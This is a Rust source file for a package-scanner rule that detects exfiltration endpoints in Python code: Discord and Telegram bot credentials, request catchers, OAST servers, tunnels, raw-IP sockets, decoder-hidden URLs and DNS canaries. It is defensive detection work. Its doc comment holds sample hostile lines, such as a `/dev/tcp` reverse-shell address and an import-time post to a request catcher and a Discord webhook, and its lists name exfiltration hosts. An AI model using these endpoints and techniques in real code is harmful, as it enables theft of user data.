//! # HS118 exfil-endpoint
//!
//! ## What it does
//!
//! Flags a network call from package code whose destination no library has
//! a reason to hard-code: a bot webhook or token of the author's, a request
//! catcher, out-of-band server or tunnel, a raw IP address, a URL hidden
//! behind a decoder, or a file drop serving a program.
//!
//! In detail:
//!
//! - a Discord webhook with its id and token, or the Telegram Bot API with a
//!   real-looking bot token (`api.telegram.org/bot<digits>:<35 chars>`),
//!   including a bot library built with such a literal token
//!   (`telebot.TeleBot("…")`, `telegram.Bot(token=…)`,
//!   `discord_webhook.DiscordWebhook(url=…)`, `dhooks.Webhook(…)`);
//! - a request catcher, out-of-band interaction server or tunnel
//!   (webhook.site, pipedream.net, requestbin, beeceptor, oastify.com,
//!   burpcollaborator.net, interact.sh and any `oast.<tld>`, dnslog.cn,
//!   ceye.io, canarytokens, ngrok, trycloudflare.com, serveo, loca.lt,
//!   transfer.sh, mockapi.io, …), matched on whole host labels;
//! - a raw public IPv4 address (`http://1.2.3.4:8080/x`,
//!   `s.connect(("1.2.3.4", 4444))`, `/dev/tcp/1.2.3.4/4444` in a command);
//! - a destination hidden behind a decoder: the URL, host or bot token comes
//!   out of base64, hex, ROT13, reversal, XOR or a `chr` join;
//! - a file drop (Discord's attachment CDN, gofile, file.io, catbox, …), only
//!   when a program is fetched from it or data is posted to it;
//! - a fixed name looked up in DNS that carries the package's own name as a
//!   label (`gclient_eval.oob.example` from `gclient_eval/__init__.py`): a
//!   dependency-confusion canary;
//! - at install or start-up time only: a fixed name resolved with `dig`,
//!   `nslookup` or `host` (an install counter), or a web page opened with
//!   `webbrowser`.
//!
//! The destination is folded through constants, variables, `self.x = "…"`
//! attributes, f-strings, concatenation, decoders, the `os.getenv(name,
//! default)` default, what local functions return, and the arguments callers
//! in the file pass for a parameter. HTTP clients, sockets, mail and FTP
//! clients, DNS look-ups (`socket.gethostbyname`, `dns.resolver.resolve`),
//! `webbrowser.open` and command lines (`curl`, `wget`, `nslookup`,
//! `python -c "…"`) all count.
//!
//! Severity: bot credentials and hidden destinations are high anywhere;
//! canaries are high at install, import or start-up time (medium later);
//! install-time look-ups and pages are high.
//! Catchers, file drops and raw IPs are high at install, import or start-up
//! time, when a program (`.exe`, `.sh`, `.py`, …) is fetched, or, for
//! catchers and raw IPs, when the call carries data (a body, query
//! parameters, files, host facts, file contents, a URL with values filled
//! in, a socket next to a started process); medium otherwise.
//!
//! ## Why it matters
//!
//! Most stealers and dependency-confusion probes need somewhere to send what
//! they take, and the cheapest places are the ones above: a Discord webhook
//! or Telegram bot the author controls, a free request bin or OAST server
//! that logs every hit, an ngrok tunnel to a laptop, a VPS by its IP. Hiding
//! the URL in base64 is done to keep it from reviewers. A library talks to
//! its own API by name, reads bot tokens from its user, and has no reason to
//! encode where it connects.
//!
//! ## Example
//!
//! ```python
//! import requests
//! requests.get("https://e0x1.m.pipedream.net/ping")   # at import time
//! WEBHOOK = "https://discord.com/api/webhooks/<id>/<token>"
//! def send(text): requests.post(WEBHOOK, json={"content": text})
//! ```
//!
//! ## False positives
//!
//! Security tooling that drives an OAST server or a tunnel on request, test
//! suites that hit a fixed address, and tools that share a report through a
//! file drop when asked (medium from a function when nothing is sent, or
//! for a file drop). Well-known public DNS resolvers (8.8.8.8, 1.1.1.1, …),
//! private, loopback, link-local and shared addresses are not raw-IP
//! destinations; a dotted quad in a command line counts only with a port.
//!
//! ## References
//!
//! - MITRE ATT&CK T1567.004 (exfiltration over webhook), T1041, T1071.001,
//!   T1572 (protocol tunneling)
//! - THREATS.md H7, H29 (beacons, DNS exfiltration)

use crate::python::Syntax;
use crate::python::model::Binding;
use crate::python::tree::Node;
use crate::python::{Call, Module, ScopeId, Taint, decode, flow, fold, names, taint::taint};
use crate::report::{Context, Severity};
use crate::rules::{Checker, Meta, Rule};
use std::cell::{Cell, OnceCell};
use std::net::Ipv4Addr;

pub struct ExfilEndpoint;

static META: Meta = crate::rule_meta!("HS118", "exfil-endpoint", High, High);

/// Hosts made for catching requests, out-of-band callbacks, tunnels to a
/// private machine and anonymous file drops: (host suffix, what it is). A
/// host matches when it is the suffix or ends with `.` + suffix, never on a
/// substring of another label.
const CATCHERS: &[(&str, &str)] = &[
    // request catchers and mock APIs
    ("webhook.site", "webhook.site (request catcher)"),
    ("pipedream.net", "Pipedream (request catcher)"),
    ("requestbin.com", "RequestBin (request catcher)"),
    ("requestbin.net", "RequestBin (request catcher)"),
    ("requestcatcher.com", "requestcatcher.com (request catcher)"),
    (
        "requestinspector.com",
        "Request Inspector (request catcher)",
    ),
    ("requestrepo.com", "requestrepo (request catcher)"),
    ("beeceptor.com", "Beeceptor (request catcher)"),
    ("hookbin.com", "Hookbin (request catcher)"),
    ("postb.in", "PostBin (request catcher)"),
    ("ptsv2.com", "PTSV (request catcher)"),
    ("ptsv3.com", "PTSV (request catcher)"),
    ("mockapi.io", "MockAPI (throwaway API)"),
    // out-of-band interaction (OAST) and DNS-log servers
    ("oastify.com", "Burp Collaborator (out-of-band)"),
    ("burpcollaborator.net", "Burp Collaborator (out-of-band)"),
    ("interact.sh", "interactsh (out-of-band)"),
    ("interactsh.com", "interactsh (out-of-band)"),
    ("oast.fun", "interactsh (out-of-band)"),
    ("oast.pro", "interactsh (out-of-band)"),
    ("oast.live", "interactsh (out-of-band)"),
    ("oast.site", "interactsh (out-of-band)"),
    ("oast.online", "interactsh (out-of-band)"),
    ("oast.me", "interactsh (out-of-band)"),
    ("dnslog.cn", "dnslog.cn (DNS log)"),
    ("ceye.io", "ceye.io (DNS log)"),
    ("canarytokens.com", "Canarytokens (callback)"),
    ("canarytokens.org", "Canarytokens (callback)"),
    // tunnels to a private machine
    ("ngrok.io", "ngrok (tunnel)"),
    ("ngrok.app", "ngrok (tunnel)"),
    ("ngrok.dev", "ngrok (tunnel)"),
    ("ngrok-free.app", "ngrok (tunnel)"),
    ("ngrok-free.dev", "ngrok (tunnel)"),
    ("trycloudflare.com", "Cloudflare quick tunnel"),
    ("serveo.net", "Serveo (tunnel)"),
    ("serveousercontent.com", "Serveo (tunnel)"),
    ("loca.lt", "localtunnel (tunnel)"),
    ("localtunnel.me", "localtunnel (tunnel)"),
    ("localhost.run", "localhost.run (tunnel)"),
    ("lhr.life", "localhost.run (tunnel)"),
    ("bore.pub", "bore (tunnel)"),
    // anonymous file drops
    ("transfer.sh", "transfer.sh (file drop)"),
];

/// Public DNS resolvers, which connectivity checks and the "which local
/// address routes out" trick (`s.connect(("8.8.8.8", 80))`) name by
/// address, and cloud platform endpoints that only exist by address (Azure's
/// WireServer).
const RESOLVERS: &[&str] = &[
    "168.63.129.16",
    "8.8.8.8",
    "8.8.4.4",
    "1.1.1.1",
    "1.0.0.1",
    "9.9.9.9",
    "149.112.112.112",
    "208.67.222.222",
    "208.67.220.220",
    "114.114.114.114",
    "223.5.5.5",
    "223.6.6.6",
    "119.29.29.29",
    "180.76.76.76",
    "4.2.2.1",
    "4.2.2.2",
];

/// Why a catcher, file drop or address finding is raised: a program fetched.
const PROGRAM: &str = " to download a program";

/// Keyword arguments that carry a body or query data out.
const DATA_KWARGS: &[&str] = &[
    "data", "json", "params", "files", "body", "fields", "content", "text",
];

/// How a call reaches its destination.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Channel {
    Http,
    Socket,
    Dns,
    Browser,
    BotToken,
    BotWebhook,
}

/// What kind of destination it is.
enum Class {
    /// A Discord webhook or Telegram bot with its credentials in the file.
    Bot(&'static str),
    /// A destination produced by a decoder: the layers, and the host if known.
    Hidden(Vec<&'static str>, Option<String>, bool),
    Catcher(String, &'static str),
    /// A file drop: only a finding when a program comes from it or data
    /// goes to it.
    Drop(String, &'static str),
    RawIp(String),
    /// A fixed name looked up in DNS that carries the package's own name: a
    /// dependency-confusion canary telling its owner where it got installed.
    Canary(String),
    /// A fixed name looked up with a DNS tool at install or start-up time.
    Lookup(String),
    /// A web page opened at install or start-up time.
    Page(String),
}

/// Bot libraries built with a token or a webhook URL: (callee, keyword of
/// the credential, whether it is a webhook URL rather than a bot token).
const BOT_LIBRARIES: &[(&str, &str, bool)] = &[
    ("telebot.TeleBot", "token", false),
    ("telebot.AsyncTeleBot", "token", false),
    ("telebot.async_telebot.AsyncTeleBot", "token", false),
    ("telegram.Bot", "token", false),
    ("telegram.ext.ExtBot", "token", false),
    ("telegram.ext.Updater", "token", false),
    ("telegram.ext.ApplicationBuilder().token", "token", false),
    ("telegram.ext.Application.builder().token", "token", false),
    ("aiogram.Bot", "token", false),
    ("discord.Client().run", "token", false),
    ("discord.Client().start", "token", false),
    ("discord.Client().login", "token", false),
    ("discord.ext.commands.Bot().run", "token", false),
    ("discord.ext.commands.Bot().start", "token", false),
    ("discord_webhook.DiscordWebhook", "url", true),
    ("discord_webhook.AsyncDiscordWebhook", "url", true),
    ("dhooks.Webhook", "url", true),
    ("dhooks.Webhook.Async", "url", true),
    ("discord.SyncWebhook.from_url", "url", true),
    ("discord.Webhook.from_url", "url", true),
];

/// The argument of a call that names where it connects.
struct Dest<'t> {
    node: Node<'t>,
    channel: Channel,
    /// Its position among the positional arguments, when it is one.
    pos: Option<usize>,
}

impl Rule for ExfilEndpoint {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn check(&self, m: &Module<'_>, checker: &mut Checker<'_>) {
        let token_literal = OnceCell::new();
        let has_token_literal = || {
            *token_literal.get_or_init(|| {
                m.strings
                    .iter()
                    .any(|s| fold::fold_str(m, *s).is_some_and(|v| is_telegram_token(v.trim())))
            })
        };
        let discord = m.imports("discord");
        let budget = Cell::new(MAX_EXPANSIONS);
        for call in &m.calls {
            let (q, dest) = match call.qname.as_deref() {
                Some(q) if names::is_spawn(q) => {
                    check_command(m, call, q, checker);
                    continue;
                }
                Some(q) => match destination(call, q) {
                    Some(dest) => (q, dest),
                    None => continue,
                },
                // `client.start(token)` on a discord.py client made elsewhere.
                None if discord => match discord_login(m, call) {
                    Some(dest) => ("discord.Client().start", dest),
                    None => continue,
                },
                None => continue,
            };
            let Some(node) = host_node(m, &dest) else {
                continue;
            };
            let Some(found) = classify(
                m,
                node,
                call.scope,
                dest.channel,
                &has_token_literal,
                &budget,
                0,
            ) else {
                // A web page opened while the package installs or the
                // interpreter starts: no build step shows the user a page.
                let context = m.context(call.scope);
                if dest.channel == Channel::Browser
                    && matches!(context, Context::Install | Context::Startup)
                    && let (text, true) = text_of(m, node)
                    && let Some(host) = host_of(&text)
                {
                    let channel = q.trim_end_matches("()");
                    report(
                        m,
                        call,
                        context,
                        checker,
                        Class::Page(host),
                        None,
                        &format!("{channel}()"),
                    );
                }
                continue;
            };
            let sends = match found.class {
                Class::Bot(_) | Class::Hidden(..) => None,
                _ => carries_data(m, call, q, &dest, &found.text)
                    .or_else(|| fetches_program(&found.text).then_some(PROGRAM)),
            };
            let channel = q.trim_end_matches("()");
            let context = earliest(m.context(call.scope), m.context(found.scope));
            report(
                m,
                call,
                context,
                checker,
                found.class,
                sends,
                &format!("{channel}()"),
            );
        }
    }
}

/// Of the context of a call and the context of the code that handed it its
/// destination, the one that runs first.
fn earliest(a: Context, b: Context) -> Context {
    let rank = |c: Context| match c {
        Context::Install => 0,
        Context::Startup => 1,
        Context::Import => 2,
        Context::Run => 3,
        Context::Unknown => 4,
    };
    if rank(b) < rank(a) { b } else { a }
}

/// Whether a URL names a program or script to download.
fn fetches_program(url: &str) -> bool {
    let path = path_of(url).to_ascii_lowercase();
    let path = path.split(['?', '#']).next().unwrap_or("");
    [
        ".exe", ".msi", ".scr", ".dll", ".bat", ".cmd", ".ps1", ".vbs", ".sh", ".jar", ".apk",
        ".py", ".pyw",
    ]
    .iter()
    .any(|ext| path.ends_with(ext))
}

fn report(
    m: &Module<'_>,
    call: &Call<'_>,
    context: Context,
    checker: &mut Checker<'_>,
    class: Class,
    sends: Option<&str>,
    channel: &str,
) {
    let _ = m;
    let early = matches!(
        context,
        Context::Install | Context::Import | Context::Startup
    );
    let when = match context {
        Context::Install => " at install time",
        Context::Import => " at import time",
        Context::Startup => " at interpreter start",
        _ => "",
    };
    let with_data = sends.unwrap_or_default();
    let (severity, message, chain) = match class {
        Class::Bot(what) => (
            Severity::High,
            format!("{channel} talks to {what} whose credentials are written in the package{when}"),
            Vec::new(),
        ),
        Class::Hidden(layers, host, token) => (
            Severity::High,
            format!(
                "the {} of {channel} is hidden behind {}{}{when}",
                if token { "bot token" } else { "destination" },
                layers.join("+"),
                host.map(|h| format!(" (decodes to {h})"))
                    .unwrap_or_default()
            ),
            layers,
        ),
        Class::Catcher(host, what) => (
            if early || sends.is_some() {
                Severity::High
            } else {
                Severity::Medium
            },
            format!("{channel} connects to {host}, {what}{with_data}{when}"),
            Vec::new(),
        ),
        Class::Drop(host, what) => {
            // Sharing a report through a file drop is a feature some tools
            // offer on request; fetching a program from one, or posting to
            // one on import or install, is not.
            let Some(why) = sends else { return };
            (
                if early || why == PROGRAM {
                    Severity::High
                } else {
                    Severity::Medium
                },
                format!("{channel} connects to {host}, {what}{why}{when}"),
                Vec::new(),
            )
        }
        Class::Canary(host) => (
            if early {
                Severity::High
            } else {
                Severity::Medium
            },
            format!("{channel} looks up {host}, a name that carries the package's own name{when}"),
            Vec::new(),
        ),
        Class::Page(host) => (
            Severity::High,
            format!("{channel} opens a page on {host}{when}"),
            Vec::new(),
        ),
        Class::Lookup(host) => (
            Severity::High,
            format!("{channel} looks up {host} with a DNS tool{when}: an install beacon"),
            Vec::new(),
        ),
        Class::RawIp(ip) => (
            if early || sends.is_some() {
                Severity::High
            } else {
                Severity::Medium
            },
            format!("{channel} connects to the raw IP address {ip}{with_data}{when}"),
            Vec::new(),
        ),
    };
    checker
        .report(&META, call.node, severity, context, message)
        .with_chain(&chain);
}

/// Where a call connects to, for the callees that connect.
fn destination<'t>(call: &Call<'t>, q: &str) -> Option<Dest<'t>> {
    let base = q.trim_end_matches("()");
    let last = base.rsplit('.').next().unwrap_or(base);
    let pick = |i: usize, keywords: &[&str], channel: Channel| {
        keywords
            .iter()
            .find_map(|k| call.kwarg(k))
            .map(|node| Dest {
                node,
                channel,
                pos: None,
            })
            .or_else(|| {
                call.arg(i).map(|node| Dest {
                    node,
                    channel,
                    pos: Some(i),
                })
            })
    };
    if let Some((_, keyword, webhook)) = BOT_LIBRARIES.iter().find(|(c, _, _)| *c == base) {
        let channel = if *webhook {
            Channel::BotWebhook
        } else {
            Channel::BotToken
        };
        return pick(0, &[keyword], channel);
    }
    if matches!(
        base,
        "socket.gethostbyname"
            | "socket.gethostbyname_ex"
            | "socket.getaddrinfo"
            | "dns.resolver.resolve"
            | "dns.resolver.query"
    ) || (base.starts_with("dns.resolver.Resolver().") && matches!(last, "resolve" | "query"))
    {
        return pick(0, &["host", "qname"], Channel::Dns);
    }
    if base == "socket.create_connection"
        || (base.starts_with("socket.socket().") && matches!(last, "connect" | "connect_ex"))
    {
        return pick(0, &["address"], Channel::Socket);
    }
    if base.starts_with("socket.socket().") && last == "sendto" {
        let i = call.args.len().saturating_sub(1).max(1);
        return pick(i, &[], Channel::Socket);
    }
    if base.starts_with("webbrowser.") && matches!(last, "open" | "open_new" | "open_new_tab") {
        return pick(0, &["url"], Channel::Browser);
    }
    if matches!(
        base,
        "http.client.HTTPConnection"
            | "http.client.HTTPSConnection"
            | "smtplib.SMTP"
            | "smtplib.SMTP_SSL"
            | "ftplib.FTP"
            | "ftplib.FTP_TLS"
            | "telnetlib.Telnet"
            | "poplib.POP3"
            | "poplib.POP3_SSL"
            | "imaplib.IMAP4"
            | "imaplib.IMAP4_SSL"
    ) {
        return pick(0, &["host"], Channel::Socket);
    }
    if base.starts_with("socket.")
        || base.starts_with("http.client.")
        || base.starts_with("smtplib.")
        || base.starts_with("ftplib.")
        || !names::is_network(q)
    {
        return None;
    }
    // `request(method, url)`: the URL comes second.
    if last == "request" && call.args.len() >= 2 && call.kwarg("url").is_none() {
        return pick(1, &[], Channel::Http);
    }
    pick(0, &["url"], Channel::Http)
}

/// The destination's text: folded when it is a constant (through names,
/// `self.x = "…"` attributes and decoders), else a template with `{}` for
/// the unknown parts; and whether it is a constant.
fn text_of(m: &Module<'_>, node: Node<'_>) -> (String, bool) {
    if let Some(b) = fold::fold(m, node).and_then(|v| v.to_bytes()) {
        return (String::from_utf8_lossy(&b).into_owned(), true);
    }
    let target = match node.kind_name() {
        "identifier" => m.value_at(node).unwrap_or(node),
        _ => node,
    };
    if target.kind_name() == "attribute"
        && let Some(s) = attribute_literal(m, target)
    {
        return (s, true);
    }
    (fold::template(m, node), false)
}

/// The literal assigned to an attribute somewhere in the file:
/// `self.url = "…"` for `self.url`, or a class-level `URL = "…"` for
/// `self.URL`.
fn attribute_literal(m: &Module<'_>, attr: Node<'_>) -> Option<String> {
    let text = m.text(attr);
    let name = m.text(attr.field("attribute")?);
    for s in &m.strings {
        let Some(parent) = s.parent() else { continue };
        if parent.kind_name() != "assignment" || parent.field("right") != Some(*s) {
            continue;
        }
        let Some(left) = parent.field("left") else {
            continue;
        };
        let in_class = || {
            parent
                .parent()
                .and_then(|p| p.parent())
                .and_then(|b| b.parent())
                .is_some_and(|c| c.kind_name() == "class_definition")
        };
        if (m.text(left) == text
            || (left.kind_name() == "identifier" && m.text(left) == name && in_class()))
            && let Some(v) = fold::fold_str(m, *s)
        {
            return Some(v);
        }
    }
    None
}

/// The host element of an address tuple `(host, port)`, directly or through
/// a name.
fn address_host<'t>(m: &Module<'t>, node: Node<'t>) -> Option<Node<'t>> {
    let tuple = match node.kind_name() {
        "tuple" | "list" => node,
        "identifier" => m
            .value_at(node)
            .filter(|v| matches!(v.kind_name(), "tuple" | "list"))?,
        _ => return None,
    };
    tuple.named_child(0)
}

/// `x.run(token)` / `x.start(token)` / `x.login(token)` on an object the
/// resolver cannot name, in a file that imports discord.py.
fn discord_login<'t>(m: &Module<'t>, call: &Call<'t>) -> Option<Dest<'t>> {
    let attr = call.func.field("attribute")?;
    if !matches!(m.text(attr), "run" | "start" | "login") || call.args.len() != 1 {
        return None;
    }
    Some(Dest {
        node: call.arg(0)?,
        channel: Channel::BotToken,
        pos: Some(0),
    })
}

/// The node that names the host: the destination itself, or the host of an
/// address tuple `(host, port)`.
fn host_node<'t>(m: &Module<'t>, dest: &Dest<'t>) -> Option<Node<'t>> {
    match dest.channel {
        Channel::Socket if !matches!(dest.node.kind_name(), "string" | "attribute") => {
            // `HTTPSConnection(host)` names the host itself, and so does a
            // decoder call handed to `connect`.
            Some(address_host(m, dest.node).unwrap_or(dest.node))
        }
        _ => Some(dest.node),
    }
}

/// A classified destination: what it is, its text, and the scope its value
/// was written in (a caller's, when it came in through a parameter).
struct Found {
    class: Class,
    text: String,
    scope: ScopeId,
}

/// How many calls a destination handed in as an argument is followed back.
const MAX_HOPS: usize = 2;
/// How many times one file's destinations are followed back to where they
/// come from, all calls together: a file of thousands of helpers stays
/// linear.
const MAX_EXPANSIONS: usize = 2048;

fn classify(
    m: &Module<'_>,
    node: Node<'_>,
    scope: ScopeId,
    channel: Channel,
    has_token_literal: &dyn Fn() -> bool,
    budget: &Cell<usize>,
    hops: usize,
) -> Option<Found> {
    let found = |class, text| Some(Found { class, text, scope });
    let (text, constant) = text_of(m, node);
    // Credentials of a bot, in the text as written or as decoded.
    let decoded = decode::evaluate(m, node, scope).and_then(|p| {
        String::from_utf8(p.bytes.clone())
            .ok()
            .map(|s| (s, p.layers))
    });
    for t in std::iter::once(text.as_str()).chain(decoded.as_ref().map(|(s, _)| s.as_str())) {
        let bot = match channel {
            Channel::BotToken => is_telegram_token(t.trim()).then_some("a Telegram bot"),
            _ => bot_endpoint(t, has_token_literal),
        };
        if let Some(what) = bot {
            return found(Class::Bot(what), text);
        }
    }
    // A destination produced by a decoder.
    if let Some((s, layers)) = &decoded {
        let token = channel == Channel::BotToken;
        let host = host_of(s).filter(|h| h.contains('.') && !token);
        if host.is_some() || token {
            return found(Class::Hidden(layers.clone(), host, token), text);
        }
    }
    let t = taint(m, node, scope);
    if t.has(Taint::Decoded) && !t.has(Taint::Network) && !t.has(Taint::Socket) {
        return found(
            Class::Hidden(t.layers(), None, channel == Channel::BotToken),
            text,
        );
    }
    if constant && (t.chain.contains(&"reverse") || spelled_by_chr(m, node, 0)) {
        let layer = if t.chain.contains(&"reverse") {
            "reverse"
        } else {
            "chr"
        };
        return found(
            Class::Hidden(vec![layer], host_of(&text), channel == Channel::BotToken),
            text,
        );
    }
    if !constant && channel == Channel::BotToken && spelled_by_chr(m, node, 0) {
        return found(Class::Hidden(vec!["chr"], None, true), text);
    }
    if !constant && hops < MAX_HOPS && budget.get() > 0 {
        budget.set(budget.get() - 1);
        // Handed in by a caller, or a setting with a written-in default.
        for (arg, arg_scope) in flow::origins(m, node, scope) {
            if let Some(f) = classify(
                m,
                arg,
                arg_scope,
                channel,
                has_token_literal,
                budget,
                hops + 1,
            ) {
                return Some(f);
            }
        }
    }
    if matches!(channel, Channel::BotToken | Channel::BotWebhook) {
        return None;
    }
    let host = host_of(&text)?;
    if let Some(what) = catcher(&host) {
        return found(Class::Catcher(host, what), text);
    }
    if let Some(what) = file_drop(&host) {
        return found(Class::Drop(host, what), text);
    }
    // Looking up an address is no contact.
    if channel != Channel::Dns && is_public_ipv4(&host) {
        return found(Class::RawIp(host), text);
    }
    if channel == Channel::Dns && constant && names_the_package(&m.path, &host) {
        return found(Class::Canary(host), text);
    }
    None
}

/// Whether a label of `host` is the name of a folder or module on the
/// file's path (`gclient_eval.oob.example` looked up from
/// `gclient_eval/__init__.py`): the lookup reports which package ran.
fn names_the_package(path: &str, host: &str) -> bool {
    let norm = |s: &str| s.to_ascii_lowercase().replace('-', "_");
    let parts: Vec<String> = path
        .rsplit(['/', '\\'])
        .skip(1)
        .take(3)
        .map(norm)
        .chain(
            path.rsplit(['/', '\\'])
                .next()
                .and_then(|f| f.strip_suffix(".py"))
                .filter(|stem| *stem != "__init__" && *stem != "setup")
                .map(norm),
        )
        .filter(|p| {
            p.len() >= 5
                && !matches!(
                    p.as_str(),
                    "tests" | "utils" | "tools" | "scripts" | "python"
                )
        })
        .collect();
    let labels: Vec<String> = host.split('.').map(norm).collect();
    // The name must be one label among at least three (a subdomain of
    // someone's zone), not the zone itself.
    labels.len() >= 3
        && labels[..labels.len() - 2]
            .iter()
            .any(|l| parts.iter().any(|p| p == l))
}

/// Whether the value is spelled out of character codes: `chr(…)` in the
/// expression, through names, or a local function that joins `chr`s.
fn spelled_by_chr(m: &Module<'_>, node: Node<'_>, depth: usize) -> bool {
    if depth > 6 {
        return false;
    }
    match node.kind_name() {
        "call" => {
            let Some(func) = node.field("function") else {
                return false;
            };
            if m.text(func) == "chr" {
                return true;
            }
            if func.kind_name() == "identifier"
                && let Some((_, bindings)) = m.lookup(m.text(func), m.scope_at(node))
                && bindings.iter().any(|b| {
                    matches!(b, Binding::Def(d) if d.kind_name() == "function_definition"
                        && m.text(*d).contains("chr(") && m.text(*d).contains("join("))
                })
            {
                return true;
            }
            node.named_children()
                .any(|n| spelled_by_chr(m, n, depth + 1))
        }
        "identifier" => m
            .value_at(node)
            .is_some_and(|v| spelled_by_chr(m, v, depth + 1)),
        "string" | "integer" => false,
        _ => node
            .named_children()
            .any(|n| spelled_by_chr(m, n, depth + 1)),
    }
}

/// Whether the call carries data out beyond reaching the destination.
fn carries_data(
    m: &Module<'_>,
    call: &Call<'_>,
    q: &str,
    dest: &Dest<'_>,
    text: &str,
) -> Option<&'static str> {
    const SENDS: Option<&str> = Some(" and sends data");
    // Values filled into the URL or host name.
    if text.contains("{}") {
        return SENDS;
    }
    let base = q.trim_end_matches("()");
    let mut sent: Vec<Node<'_>> = vec![dest.node];
    match dest.channel {
        Channel::Http => {
            let fetch_to_file = base.ends_with("urlretrieve") || base == "wget.download";
            for (k, v) in &call.kwargs {
                if DATA_KWARGS.contains(k) && m.text(*v) != "None" {
                    return SENDS;
                }
            }
            if let Some(i) = dest.pos
                && !fetch_to_file
                && call.args.iter().skip(i + 1).any(|a| m.text(*a) != "None")
            {
                return SENDS;
            }
        }
        Channel::Socket if base.ends_with(".sendto") => return SENDS,
        // A connection next to a started process: a shell wired to it.
        Channel::Socket
            if m.calls_in_unit(m.unit(call.scope))
                .any(|c| c.qname.as_deref().is_some_and(names::is_spawn)) =>
        {
            return Some(" beside a process it starts");
        }
        _ => {}
    }
    sent.extend(call.args.iter().copied());
    sent.iter()
        .any(|a| {
            let t = taint(m, *a, call.scope);
            t.has(Taint::HostInfo) || t.has(Taint::Environment) || t.has(Taint::FileRead)
        })
        .then_some(" and sends host facts, environment or file contents")
}

/// Command-line tools that contact a host named on their command line.
const TOOLS: &[&str] = &["curl", "wget", "nslookup", "dig", "host", "ping"];

/// `curl`/`wget`/`nslookup` (or any command) whose command line names an
/// exfiltration endpoint.
fn check_command(m: &Module<'_>, call: &Call<'_>, q: &str, checker: &mut Checker<'_>) {
    let Some(arg) = call.arg(0).or_else(|| call.kwarg("args")) else {
        return;
    };
    let cmd = fold::template(m, arg);
    if cmd.len() > 64 << 10 {
        return;
    }
    let lower = cmd.to_ascii_lowercase();
    let mut candidates: Vec<(String, bool)> = Vec::new();
    // Every URL in the command line (also inside `python -c "…"` code).
    let mut from = 0;
    while let Some(at) = lower[from..].find("://") {
        let at = from + at;
        // Past the last character that cannot be in a scheme, however many
        // bytes it takes (found by fuzzing: `é://` sliced inside the `é`).
        let start = lower[..at]
            .char_indices()
            .rev()
            .find(|&(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-')))
            .map_or(0, |(i, c)| i + c.len_utf8());
        let end = cmd[at..]
            .find(|c: char| {
                c.is_whitespace()
                    || matches!(c, '"' | '\'' | ')' | ';' | '|' | '&' | '<' | '>' | '`')
            })
            .map_or(cmd.len(), |i| at + i);
        candidates.push((cmd[start..end].to_string(), true));
        from = end.max(at + 3);
    }
    // Hosts given to a network tool without a scheme.
    let words: Vec<&str> = cmd
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | ')'))
        .map(|w| w.trim_matches(|c| c == '"' || c == '\''))
        .filter(|w| !w.is_empty())
        .collect();
    let mut looked_up: Option<String> = None;
    for (i, w) in words.iter().enumerate() {
        let tool = w
            .rsplit(['/', '\\'])
            .next()
            .unwrap_or(w)
            .to_ascii_lowercase();
        let tool = tool.trim_end_matches(".exe");
        if !TOOLS.contains(&tool) {
            continue;
        }
        for next in words.iter().skip(i + 1).take(4) {
            if !next.starts_with('-') && next.contains('.') && !next.contains("://") {
                candidates.push((next.to_string(), matches!(tool, "curl" | "wget")));
                let name = next.trim_end_matches('.');
                if matches!(tool, "nslookup" | "dig" | "host")
                    && !next.starts_with('@')
                    && name.split('.').count() >= 2
                    && name.chars().any(|c| c.is_ascii_alphabetic())
                    && !name.contains('{')
                {
                    looked_up.get_or_insert_with(|| name.to_ascii_lowercase());
                }
            }
        }
    }
    // Addresses a command connects to: `1.2.3.4:4444`, `('1.2.3.4', 4444)`,
    // `/dev/tcp/1.2.3.4/4444`.
    candidates.extend(addresses(&cmd).into_iter().map(|ip| (ip.to_string(), true)));
    if candidates.is_empty() {
        return;
    }
    const DATA_MARKS: &[&str] = &[
        "--data",
        "--form",
        "--upload-file",
        "--post-data",
        "--post-file",
        "$(",
        "`",
        "%username%",
        "%computername%",
        "{}",
        "json=",
        "data=",
        "files=",
        "params=",
    ];
    let sends = (DATA_MARKS.iter().any(|d| lower.contains(d))
        || ["-d ", "-F ", "-T "].iter().any(|d| cmd.contains(d)))
    .then_some(" and sends data");
    let never = || false;
    for (target, contacts) in candidates {
        let class = if let Some(what) = bot_endpoint(&target, &never) {
            Class::Bot(what)
        } else {
            let Some(host) = host_of(&target) else {
                continue;
            };
            if let Some(what) = catcher(&host) {
                Class::Catcher(host, what)
            } else if let Some(what) = file_drop(&host) {
                Class::Drop(host, what)
            } else if contacts && is_public_ipv4(&host) {
                Class::RawIp(host)
            } else {
                continue;
            }
        };
        let why = sends.or_else(|| fetches_program(&target).then_some(PROGRAM));
        if matches!(class, Class::Drop(..)) && why.is_none() {
            continue;
        }
        let channel = format!("a command run by {}()", q.trim_end_matches("()"));
        report(
            m,
            call,
            m.context(call.scope),
            checker,
            class,
            why,
            &channel,
        );
        return;
    }
    // `dig`/`nslookup` of a fixed name while the package installs: no build
    // step resolves names by hand; an install counter or canary does.
    let context = m.context(call.scope);
    if let Some(host) = looked_up
        && matches!(context, Context::Install | Context::Startup)
    {
        let channel = format!("a command run by {}()", q.trim_end_matches("()"));
        report(
            m,
            call,
            context,
            checker,
            Class::Lookup(host),
            None,
            &channel,
        );
    }
}

/// Public IPv4 addresses a command line connects to: followed by a port
/// (`1.2.3.4:4444`, `'1.2.3.4', 4444`) or after `/dev/tcp/`. A bare
/// dotted quad may be a version number.
fn addresses(cmd: &str) -> Vec<&str> {
    let b = cmd.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if !b[i].is_ascii_digit() || (i > 0 && (b[i - 1].is_ascii_digit() || b[i - 1] == b'.')) {
            i += 1;
            continue;
        }
        let end = i + b[i..]
            .iter()
            .take_while(|c| c.is_ascii_digit() || **c == b'.')
            .count();
        let quad = &cmd[i..end];
        let rest = cmd[end..].trim_start_matches(['"', '\'', ' ']);
        let port_follows = rest
            .strip_prefix(':')
            .or_else(|| rest.strip_prefix(','))
            .is_some_and(|r| r.trim_start().starts_with(|c: char| c.is_ascii_digit()))
            || rest.starts_with('/') && cmd[..i].ends_with("/dev/tcp/")
            || cmd[..i].ends_with("/dev/tcp/")
            || cmd[..i].ends_with("/dev/udp/");
        if port_follows && is_public_ipv4(quad) {
            out.push(quad);
        }
        i = end.max(i + 1);
    }
    out
}

